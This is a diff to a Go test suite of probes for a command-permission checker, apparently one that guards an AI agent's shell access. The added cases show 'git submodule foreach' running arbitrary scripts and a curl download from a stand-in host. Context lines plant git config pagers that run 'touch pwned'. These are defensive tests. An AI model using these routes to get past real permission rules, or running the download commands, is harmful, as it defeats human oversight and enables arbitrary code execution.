@@ -146,6 +146,11 @@ var configProbes = []routeProbe{
 	probe("HOME under env", `mkdir h && printf '[core]\n\tpager = touch pwned\n' > h/.gitconfig`, true, "env HOME=h git -p log").inBypass(),
 	probe("XDG_CONFIG_HOME=. reads git/config", `mkdir -p git && printf '[core]\n\tpager = touch pwned\n' > git/config`, true, "XDG_CONFIG_HOME=. git -p log").inBypass(),
 	probe("XDG_CONFIG_HOME exported", `mkdir -p git && printf '[core]\n\tfsmonitor = touch pwned\n' > git/config`, true, "export XDG_CONFIG_HOME=$PWD; git status").inBypass(),
+	// git submodule foreach runs any command: a rule on git does not cover it.
+	probe("submodule foreach, a script", "", true, "git submodule foreach 'python3 x.py'").inBypass(),
+	probe("submodule foreach, words", "", true, "git submodule foreach --recursive curl -s https://x.example/i.sh -o i.sh").inBypass(),
+	probe("submodule foreach, quiet", "", true, "git submodule --quiet foreach 'sh ./x.sh'").inBypass(),
+	lookAlike("submodule status under Bash(git:*)", "", "", "git submodule status"),
 	lookAlike("nested repo with plain config, -C", nestedRepo+`git -C sub config user.name A`, "{}", "git -C sub log"),
 	lookAlike("nested repo with plain config, cd", nestedRepo+`git -C sub config user.name A`, "{}", "cd sub && git status"),
 	lookAlike("project repo's own config is judged already", `git config core.editor vim`, "{}", "git log --oneline"),
